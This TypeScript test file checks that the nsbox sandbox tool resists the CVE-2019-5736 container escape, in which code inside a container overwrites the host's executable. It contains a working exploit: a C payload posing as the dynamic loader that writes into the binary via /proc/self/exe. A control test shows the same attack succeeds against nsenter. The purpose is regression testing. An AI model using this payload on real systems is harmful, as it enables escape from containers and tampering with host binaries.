// Overwriting nsbox by way of what it is before it becomes a command inside: line 4 of docs/security.md (CVE-2019-5736).
import { expect, test } from "bun:test";
import { chmodSync, copyFileSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { describeWith } from "#test/support/needs.ts";
import { childrenOf } from "#test/support/box.ts";
import { compileC, NSBOX, runCommand, tempDir, type TempDir, waitFor } from "#test/support/nsbox.ts";

/** Stands in the place of the loader: opens the executable that it is to load, lets it end, and writes to it. */
const LOADER = `
static long call(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}
void _start(void) {
  long file = call(2, (long)"/proc/self/exe", 0, 0);
  char script[] = "sleep 1; echo PWNED 1<>/proc/self/fd/0; echo tried > /tmp/tried";
  char *words[] = {"busybox", "sh", "-c", script, 0}, *none[] = {0};
  script[37] = '0' + file;
  if (call(57, 0, 0, 0) != 0) call(231, 0, 0, 0);
  call(112, 0, 0, 0);
  call(59, (long)"/bin/busybox", (long)words, (long)none);
  call(231, 1, 0, 0);
}`;

/** A root file system whose /bin/sh leads to whoever runs it, and whose loader is the attacker's. */
function hostileRoot(): TempDir {
  const root = tempDir();
  for (const path of ["bin", "lib64", "proc", "dev", "sys", "tmp", "etc"]) mkdirSync(root.join(path));
  copyFileSync(Bun.which("busybox") ?? "", root.join("bin/busybox"));
  using loader = compileC(LOADER, ["-nostdlib", "-fno-stack-protector", "-fno-builtin"]);
  copyFileSync(loader.path, root.join("lib64/ld-linux-x86-64.so.2"));
  writeFileSync(root.join("bin/sh"), "#!/proc/self/exe\n");
  for (const path of ["bin/busybox", "bin/sh", "lib64/ld-linux-x86-64.so.2"]) chmodSync(root.join(path), 0o755);
  return root;
}

const begin = (path: string): string => readFileSync(path).subarray(0, 5).toString("latin1");
const ELF = "\x7fELF\x02";

/** Runs `attack` with a copy of an executable in its own folder, and gives the beginning of the copy after that. */
async function overwritten(
  executable: string,
  attack: (copy: string, root: TempDir) => Promise<unknown>,
): Promise<string> {
  using root = hostileRoot();
  using place = tempDir();
  const copy = place.join("nsbox");
  copyFileSync(executable, copy);
  chmodSync(copy, 0o755);
  await attack(copy, root);
  await waitFor(() => readIfThere(root.join("tmp/tried")) !== "", "the attempt");
  return begin(copy);
}

function readIfThere(path: string): string {
  try {
    return readFileSync(path, "utf8");
  } catch {
    return ""; // not yet
  }
}

describeWith(
  ["root", "busybox", "cc", "x64"],
  "files, 4: nsbox's executable, from a container that is entered (CVE-2019-5736)",
  () => {
    /** A container without a user namespace: its root is root. */
    async function entered(
      executable: string,
      enter: (copy: string, pid: number) => readonly string[],
    ): Promise<string> {
      return overwritten(executable, async (copy, root) => {
        const script =
          'mount --bind "$1" "$1" && mount -t proc proc "$1/proc" && cd "$1" && exec chroot . /bin/busybox sleep 20';
        const child = Bun.spawn(["unshare", "--pid", "--mount", "--fork", "sh", "-c", script, "sh", root.path]);
        try {
          const pid = await waitFor(() => childrenOf(child.pid).find(isBusybox), "the container");
          await runCommand(enter(copy, pid));
          await waitFor(() => readIfThere(root.join("tmp/tried")) !== "", "the attempt");
        } finally {
          for (const pid of childrenOf(child.pid)) process.kill(pid, "SIGKILL");
          await child.exited;
        }
      });
    }

    function isBusybox(pid: number): boolean {
      return readFileSync(`/proc/${pid}/comm`, "utf8") === "busybox\n";
    }

    test("is not written to by way of exec", async () => {
      expect(await entered(NSBOX, (copy, pid) => [copy, "exec", "--root", String(pid), "/bin/sh"])).toBe(ELF);
    });

    test("would be, as nsenter's is: the attack is a real one", async () => {
      const nsenter = Bun.which("nsenter") ?? "";
      expect(await entered(nsenter, (copy, pid) => [copy, "-t", String(pid), "-p", "-m", "-r", "/bin/sh"])).toBe(
        "PWNED",
      );
    });
  },
);

describeWith(
  ["userns", "busybox", "cc", "x64"],
  "files, 4: nsbox's executable, from a box without an init and without Landlock",
  () => {
    test("is not written to, though it is the caller's own file", async () => {
      using root = hostileRoot();
      using place = tempDir();
      const copy = place.join("nsbox");
      copyFileSync(NSBOX, copy);
      chmodSync(copy, 0o755);
      const flags = [
        "--no-init",
        "--no-landlock",
        "--pid",
        "host",
        "--proc",
        "bind",
        "--root",
        root.path,
        "--rw",
        `${root.join("tmp")}:/tmp`,
      ];
      await runCommand([copy, "run", ...flags, "--", "/bin/sh"]);
      await waitFor(() => readIfThere(root.join("tmp/tried")) !== "", "the attempt");
      expect(begin(copy)).toBe(ELF);
    });
  },
);
